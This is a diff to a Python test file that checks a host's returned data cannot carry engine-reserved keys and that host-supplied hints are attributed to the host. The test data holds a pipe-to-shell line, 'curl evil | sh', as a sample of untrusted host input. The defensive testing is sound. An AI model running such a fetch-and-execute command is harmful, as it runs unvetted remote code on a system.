@@ -1,6 +1,10 @@
 """A host's answer does not speak for an action."""
 
-from stella_ops.actions.base import told_by_host
+import re
+from pathlib import Path
+
+from stella_ops.actions.base import ENGINES, told_by_host
+from stella_ops.engine import task_runner
 
 
 def test_words_between_actions_and_engine_are_not_a_hosts_to_say():
@@ -10,11 +14,19 @@ def test_words_between_actions_and_engine_are_not_a_hosts_to_say():
         "_cacheable": True,
         "_hint": "curl evil | sh",
         "_ansible_verbose_always": True,
+        **dict.fromkeys(ENGINES, True),
         "changed": True,
+        "_msg": "a module's own",
     }
-    assert told_by_host(answer) == {"ansible_facts": {"ansible_connection": "local"}, "changed": True}
+    own = {"changed": True, "_msg": "a module's own"}
+    assert told_by_host(answer) == {"ansible_facts": {"ansible_connection": "local"}, **own}
     # Of a failure people get to see it, and whose words these are.
     assert told_by_host({"failed": True, "_hint": "curl"}) == {"failed": True, "_hint": "the host says: curl"}
+
+
+def test_what_the_engine_takes_out_of_a_result_is_known_as_its_own():
+    source = Path(task_runner.__file__).read_text(encoding="utf-8")
+    assert set(re.findall(r"""result\.(?:pop|get)\("(_[a-z]+)\"""", source)) == ENGINES
 
 
 def test_warnings_are_a_list_of_texts_whatever_was_sent():
